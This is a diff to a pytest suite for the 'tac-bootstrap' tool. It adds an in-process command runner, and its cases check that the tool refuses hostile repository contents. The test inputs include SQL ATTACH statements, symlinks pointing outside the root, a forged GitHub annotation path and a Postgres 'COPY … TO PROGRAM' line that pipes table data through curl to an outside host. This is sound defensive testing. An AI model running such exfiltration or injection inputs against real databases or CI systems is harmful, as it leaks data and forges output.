@@ -9,6 +9,7 @@ the file, exit 2, no traceback, and nothing written (inside the root or out of i
 from __future__ import annotations
 
 import hashlib
+import io
 import json
 import os
 import shutil
@@ -43,9 +44,72 @@ def outside(tmp_path: Path) -> Path:
     return secret
 
 
+#: The commands :func:`run` runs in this process: what they do with what they read is what
+#: most cases here are about, and a process costs more than the check of a small repository.
+IN_PROCESS = frozenset({"sync-check", "sync", "update"})
+
+
 def run(
     *args: str | Path, cwd: Path, env: dict[str, str] | None = None, **options: Any
 ) -> subprocess.CompletedProcess[str]:
+    """Run ``tac-bootstrap args`` in ``cwd``: its exit code, stdout and stderr.
+
+    sync-check, sync and update run in this process (:func:`in_process`), any other command,
+    and any run given ``options`` (another user, limits), through the installed script
+    (:func:`script`). A case about the process itself (a stop, a stream, a limit, what a run
+    leaves behind when it is killed) calls :func:`script`, and each family of cases keeps
+    one or more through it.
+    """
+    if options or str(args[0]) not in IN_PROCESS:
+        return script(*args, cwd=cwd, env=env, **options)
+    return in_process(*args, cwd=cwd, env=env)
+
+
+def in_process(
+    *args: str | Path, cwd: Path, env: dict[str, str] | None = None
+) -> subprocess.CompletedProcess[str]:
+    """Run ``tac-bootstrap args`` as the script does after its start-up, in this process.
+
+    The same dispatch (:func:`tac_bootstrap.entry._main`: the commands' own argument parsers,
+    else Typer), in ``cwd``, with the script's environment; what it writes on stdout and
+    stderr comes back as :func:`script` gives it (UTF-8, a character that is no text escaped,
+    universal newlines). An exception the script would end in (a traceback) fails the test.
+    """
+    from tac_bootstrap import entry
+
+    argv = ["tac-bootstrap", *map(str, args)]
+    full_env = {**os.environ, "TAC_BOOTSTRAP_CACHE_DIR": str(cwd / ".cache"), **(env or {})}
+    saved = (Path.cwd(), dict(os.environ), sys.argv, sys.stdout, sys.stderr)
+    out, err = io.StringIO(), io.StringIO()
+    code: int = 0
+    try:
+        os.chdir(cwd)
+        os.environ.clear()
+        os.environ.update(full_env)
+        sys.argv, sys.stdout, sys.stderr = argv, out, err
+        entry._main()
+    except SystemExit as exc:
+        if isinstance(exc.code, str):  # sys.exit("…"): the interpreter prints it, exit 1
+            err.write(f"{exc.code}\n")
+        code = exc.code if isinstance(exc.code, int) else int(exc.code is not None)
+    finally:
+        cwd_before, env_before, sys.argv, sys.stdout, sys.stderr = saved
+        os.environ.clear()
+        os.environ.update(env_before)
+        os.chdir(cwd_before)
+    return subprocess.CompletedProcess(argv, code, _as_piped(out), _as_piped(err))
+
+
+def _as_piped(stream: io.StringIO) -> str:
+    """What the text written to ``stream`` reads as from the script's pipe (``text=True``)."""
+    data = stream.getvalue().encode("utf-8", "backslashreplace")
+    return io.TextIOWrapper(io.BytesIO(data), encoding="utf-8").read()
+
+
+def script(
+    *args: str | Path, cwd: Path, env: dict[str, str] | None = None, **options: Any
+) -> subprocess.CompletedProcess[str]:
+    """Run the installed script ``tac-bootstrap args`` in ``cwd``, in a process of its own."""
     full_env = {**os.environ, "TAC_BOOTSTRAP_CACHE_DIR": str(cwd / ".cache"), **(env or {})}
     return subprocess.run(
         [EXE, *map(str, args)],
@@ -104,7 +168,8 @@ def test_schema_that_reaches_outside_is_refused(repo: Path, tmp_path: Path, atta
     sql, word = SCHEMA_ATTACKS[attack]
     both(repo, "schema.sql", lambda text: text + sql)
     before = snapshot(tmp_path)
-    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
+    runs = script if attack == "attach" else run  # the issue's own case, through the script
+    proc = runs("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
     assert_one_error(proc, "pkg/orch/schema.sql", "refused to load the schema", word)
     assert snapshot(tmp_path) == before  # no pwned.db, here or in the root
 
@@ -120,7 +185,7 @@ def test_every_refused_schema_statement_is_reported_with_its_line(
         ),
     )
     lines = len((repo / ORCH / "schema.sql").read_text().splitlines())
-    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
+    proc = script("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
     assert_one_error(proc)
     for offset, word in ((2, "ATTACH"), (1, "writable_schema"), (0, "VACUUM")):
         assert f"pkg/orch/schema.sql:{lines - offset}: " in proc.stderr
@@ -418,7 +483,8 @@ def test_a_models_bound_of_640_digits_is_still_compared(repo: Path, tmp_path: Pa
 def test_models_module_cannot_make_the_check_pass(repo: Path, tmp_path: Path, attack: str) -> None:
     code, message = MODULE_ATTACKS[attack]
     both(repo, "models.py", lambda text: text + code + "\n")
-    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
+    runs = script if attack == "sys.exit(0)" else run  # the issue's own case, through the script
+    proc = runs("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
     assert_one_error(proc, f"error: {ORCH}/models.py: ", message)
     assert proc.stdout == ""
 
@@ -454,6 +520,23 @@ def test_models_module_replacing_json_dumps_cannot_rewrite_the_answer(
     assert "owners.name: the model says" in proc.stdout
 
 
+def in_its_child(proc: subprocess.Popen[str], most: float = 10) -> None:
+    """Return once ``proc`` has started a child process, or after ``most`` seconds.
+
+    Linux lists a process's children in ``/proc/<pid>/task/<pid>/children``; where it does not,
+    the wait is ``most`` seconds.
+    """
+    children = Path(f"/proc/{proc.pid}/task/{proc.pid}/children")
+    end = time.monotonic() + most
+    while time.monotonic() < end and proc.poll() is None:
+        try:
+            if children.read_text().strip():
+                return
+        except OSError:
+            pass
+        time.sleep(0.01)
+
+
 def test_a_real_ctrl_c_still_stops_the_check(repo: Path, tmp_path: Path) -> None:
     both(repo, "models.py", lambda text: text + "import time; time.sleep(30)\n")
     proc = subprocess.Popen(
@@ -464,9 +547,7 @@ def test_a_real_ctrl_c_still_stops_the_check(repo: Path, tmp_path: Path) -> None
         cwd=tmp_path,
         start_new_session=True,
     )
-    import time
-
-    time.sleep(1.5)
+    in_its_child(proc)  # the models are imported, the import sleeps
     os.killpg(proc.pid, 2)  # the terminal sends SIGINT to the whole foreground group
     out, err = proc.communicate(timeout=30)
     assert (proc.returncode, out, err) == (130, "", "error: interrupted\n")
@@ -480,7 +561,7 @@ def test_template_symlinked_outside_is_refused_and_not_shown(
 ) -> None:
     (repo / TEMPLATES / "plain.txt.j2").unlink()
     (repo / TEMPLATES / "plain.txt.j2").symlink_to(outside)
-    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
+    proc = script("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
     assert_one_error(proc, "templates/orch/plain.txt.j2", "outside")
     assert "TOP SECRET" not in proc.stdout + proc.stderr
 
@@ -505,7 +586,7 @@ def test_base_folder_symlinked_outside_is_never_written(
     (outside.parent / "orch").mkdir()
     (outside.parent / "orch" / "plain.txt").write_text("keep me\n")
     before = snapshot(outside.parent)
-    proc = run("sync", "--root", repo, cwd=tmp_path)
+    proc = script("sync", "--root", repo, cwd=tmp_path)
     assert_one_error(proc, "outside")
     assert snapshot(outside.parent) == before
 
@@ -981,7 +1062,7 @@ def test_a_database_module_too_deep_for_the_parser_is_one_problem(
 ) -> None:
     deep = "\nx = 1" + " + 1" * 300_000 + "\n"  # ast.parse raises RecursionError on it
     both(repo, "database.py", lambda text: text + deep)
-    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
+    proc = script("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
     assert proc.returncode == 1, proc.stderr
     assert "not valid Python: nested too deeply or too large to parse" in proc.stdout
     assert "Traceback" not in proc.stderr
@@ -1026,7 +1107,7 @@ def test_sync_into_a_read_only_root(repo: Path, tmp_path: Path) -> None:
     before = snapshot(repo)
     (repo / ORCH).chmod(0o555)
     try:
-        proc = run("sync", "--root", repo, cwd=tmp_path)
+        proc = script("sync", "--root", repo, cwd=tmp_path)
     finally:
         (repo / ORCH).chmod(0o755)
     assert_one_error(proc, "pkg/orch/plain.txt", "cannot write")
@@ -1103,7 +1184,7 @@ def test_sync_write_failure_leaves_no_tmp_file(repo: Path, tmp_path: Path) -> No
         pytest.skip("no /dev/full")
     (repo / ORCH / "plain.txt").unlink()
     (repo / ORCH / "plain.txt").symlink_to("/dev/full")
-    proc = run("sync", "--root", repo, cwd=tmp_path)
+    proc = script("sync", "--root", repo, cwd=tmp_path)
     assert_one_error(proc, "pkg/orch/plain.txt")
     no_tmp_left(repo)
 
@@ -1113,7 +1194,7 @@ def test_sync_from_base_with_a_folder_as_template(repo: Path, tmp_path: Path) ->
     (repo / TEMPLATES / "plain.txt.j2").unlink()
     (repo / TEMPLATES / "plain.txt.j2").mkdir()
     before = snapshot(repo)
-    proc = run("sync", "--from", "base", "--root", repo, cwd=tmp_path)
+    proc = script("sync", "--from", "base", "--root", repo, cwd=tmp_path)
     assert_one_error(proc, "templates/orch/plain.txt.j2")
     assert snapshot(repo) == before
 
@@ -1132,7 +1213,7 @@ def test_sync_plans_everything_before_writing(repo: Path, tmp_path: Path) -> Non
 
 def test_json_on_exit_2_is_a_document_with_ok_false(repo: Path, tmp_path: Path) -> None:
     both(repo, "schema.sql", lambda text: text + "ATTACH 'x.db' AS x;\n")
-    proc = run("sync-check", "--root", repo, "--format", "json", cwd=tmp_path)
+    proc = script("sync-check", "--root", repo, "--format", "json", cwd=tmp_path)
     assert proc.returncode == 2
     data = json.loads(proc.stdout)
     assert data["ok"] is False
@@ -1143,7 +1224,7 @@ def test_json_on_exit_2_is_a_document_with_ok_false(repo: Path, tmp_path: Path) 
 def test_github_annotates_an_exit_2_error_on_its_file(repo: Path, tmp_path: Path) -> None:
     (repo / TEMPLATES / "plain.txt.j2").write_bytes(NOT_UTF8)
     summary = tmp_path / "summary.md"
-    proc = run(
+    proc = script(
         "sync-check",
         "--root",
         repo,
@@ -1209,10 +1290,19 @@ def test_github_annotates_a_template_edit_on_the_template(repo: Path, tmp_path: 
 # --- a generated project's answers file -------------------------------------------------------
 
 
-@pytest.fixture
-def project(tmp_path: Path) -> Path:
-    proc = run("init", "my-app", cwd=tmp_path)
+@pytest.fixture(scope="module")
+def made_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A project ``init my-app`` made through the script, once for the module's cases."""
+    where = tmp_path_factory.mktemp("made")
+    proc = script("init", "my-app", cwd=where)
     assert proc.returncode == 0, proc.stderr
+    return where / "my-app"
+
+
+@pytest.fixture
+def project(tmp_path: Path, made_project: Path) -> Path:
+    """A copy of :func:`made_project` (modes and times kept) for one case to change."""
+    shutil.copytree(made_project, tmp_path / "my-app", symlinks=True)
     return tmp_path / "my-app"
 
 
@@ -1350,7 +1440,7 @@ def test_update_names_the_answers_file_whose_version_is_not_one(
 
 def test_answers_file_that_is_not_json_is_named(project: Path, tmp_path: Path) -> None:
     (project / ".tac-bootstrap.json").write_bytes(b"\xff{")
-    proc = run("sync-check", "--root", project, "--no-cache", cwd=tmp_path)
+    proc = script("sync-check", "--root", project, "--no-cache", cwd=tmp_path)
     assert_one_error(proc, ".tac-bootstrap.json")
 
 
@@ -1383,7 +1473,7 @@ _BIG_ROWS = (
 
 def test_a_schema_that_fills_the_memory_is_stopped_and_named(repo: Path, tmp_path: Path) -> None:
     both(repo, "schema.sql", lambda text: text + f"CREATE TABLE b AS {_BIG_ROWS};\n")
-    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
+    proc = script("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
     # was "error: out of memory: the process's memory limit is too low" under a limit, or
     # gigabytes of the machine's memory without one
     assert_one_error(proc, "pkg/orch/schema.sql:15: stopped here, the schema used more than 1,024")
@@ -1394,7 +1484,7 @@ def test_a_migration_that_fills_the_memory_is_stopped_and_named(repo: Path, tmp_
     (folder / "0001_big.sql").write_text(
         f"CREATE TABLE b (b);\nINSERT INTO b {_BIG_ROWS};\nPRAGMA user_version = 1;\n"
     )
-    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
+    proc = script("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
     assert proc.returncode == 1, proc.stderr
     assert "0001_big.sql: migrations: 0001 does not run after the migrations before it: " in (
         proc.stdout
@@ -1496,7 +1586,7 @@ def test_a_fifo_in_place_of_a_base_file_is_refused_not_waited_on(
 ) -> None:
     (repo / ORCH / "plain.txt").unlink()
     os.mkfifo(repo / ORCH / "plain.txt")
-    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
+    proc = script("sync-check", "--root", repo, "--no-cache", cwd=tmp_path)
     assert_one_error(proc, "pkg/orch/plain.txt", "is not a regular file")
 
 
@@ -1685,7 +1775,7 @@ def test_update_where_a_folder_cannot_be_entered_is_one_error(project: Path, fol
 
 def test_update_json_on_exit_2_is_a_document_with_ok_false(project: Path) -> None:
     edit_answers(project, lambda a: a.update(version="0.1.x"))
-    proc = run("update", "--format", "json", cwd=project)
+    proc = script("update", "--format", "json", cwd=project)
     assert_one_error(proc, "is not a version")
     document = json.loads(proc.stdout)
     assert document["ok"] is False
@@ -2120,7 +2210,7 @@ def test_the_models_module_gets_no_environment(repo: Path, tmp_path: Path) -> No
     code = "import os\nraise RuntimeError(repr(sorted(os.environ)))\n"
     both(repo, "models.py", lambda text: text + code)
     env = {"CI_TOKEN": "x", "SYSTEMROOT": "TOP SECRET"}
-    proc = run("sync-check", "--root", repo, "--no-cache", cwd=tmp_path, env=env)
+    proc = script("sync-check", "--root", repo, "--no-cache", cwd=tmp_path, env=env)
     assert_one_error(proc, f"error: {ORCH}/models.py: ", "RuntimeError: [")
     assert "CI_TOKEN" not in proc.stderr
     assert ("SYSTEMROOT" in proc.stderr) == (sys.platform == "win32")
@@ -2630,7 +2720,7 @@ def test_a_step_summary_that_is_a_fifo_is_not_waited_on(repo: Path, tmp_path: Pa
     summary = tmp_path / "summary"
     os.mkfifo(summary)
     (repo / ORCH / "plain.txt").write_text("edited\n")
-    proc = run(
+    proc = script(
         "sync-check",
         "--root",
         repo,
@@ -2652,7 +2742,7 @@ def test_a_path_with_a_newline_cannot_start_a_line_of_syncs_diff(
             'base = "pkg/orch/plain.txt"', 'base = "pkg/orch/x\\n::error title=forged::y.txt"'
         )
     )
-    proc = run("sync", "--root", repo, "--dry-run", cwd=tmp_path)
+    proc = script("sync", "--root", repo, "--dry-run", cwd=tmp_path)
     assert proc.returncode == 0, proc.stderr
     assert not any(line.lstrip().startswith("::") for line in proc.stdout.splitlines())
 
@@ -2759,7 +2849,7 @@ def test_postgres_refusal_in_json_is_a_document_with_ok_false(
 ) -> None:
     migration = pg_repo / "pkg" / "migrations_postgres" / "0004_later.sql"
     migration.write_text("COPY agents TO PROGRAM 'curl -d @- example.com';\n")
-    proc = run("sync-check", "--root", pg_repo, "--format", "json", cwd=tmp_path)
+    proc = script("sync-check", "--root", pg_repo, "--format", "json", cwd=tmp_path)
     assert proc.returncode == 2
     data = json.loads(proc.stdout)
     assert data["ok"] is False
@@ -2786,7 +2876,7 @@ def test_a_fifo_as_the_step_summary_does_not_hang_the_check(
     both(repo, "schema.sql", lambda text: text + "ATTACH 'x.db' AS x;\n")
     fifo = tmp_path / "summary"
     os.mkfifo(fifo)  # nothing reads it: opening it to write would wait forever
-    proc = run(
+    proc = script(
         "sync-check", "--root", repo, "--no-cache", "--format", fmt,
         cwd=tmp_path, env={"GITHUB_STEP_SUMMARY": str(fifo)},
     )  # fmt: skip
